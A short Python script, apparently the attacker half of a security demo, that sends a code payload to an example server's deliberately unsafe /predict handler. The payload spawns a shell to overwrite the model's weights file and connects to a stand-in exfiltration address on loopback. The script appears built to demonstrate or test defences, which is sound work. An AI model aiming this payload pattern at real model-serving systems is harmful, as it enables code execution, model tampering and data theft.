#!/usr/bin/env python3
"""The demo's attacker: exploits the example server's unsafe /predict handler (it runs a
payload sent as "__reduce__", the way an unsafe pickle load does) to make the server
  1. spawn a shell,
  2. have it overwrite the model's weights,
  3. connect to an address the server never talks to (127.0.0.2:4444, a stand-in for an
     exfiltration endpoint; it stays on this machine's loopback).
attack.py PORT MODELS_DIR"""
import json
import sys
import urllib.request

port, models = int(sys.argv[1]), sys.argv[2]
payload = f"""
import socket, subprocess
subprocess.run(["/bin/sh", "-c", "echo '[0, 0, 0]' > {models}/weights.json"])
s = socket.socket(); s.settimeout(1); s.connect_ex(("127.0.0.2", 4444)); s.close()
"""
req = urllib.request.Request(f"http://127.0.0.1:{port}/predict",
                             data=json.dumps({"x": [1, 2, 3], "__reduce__": payload}).encode(),
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=5).read().decode(), file=sys.stderr)
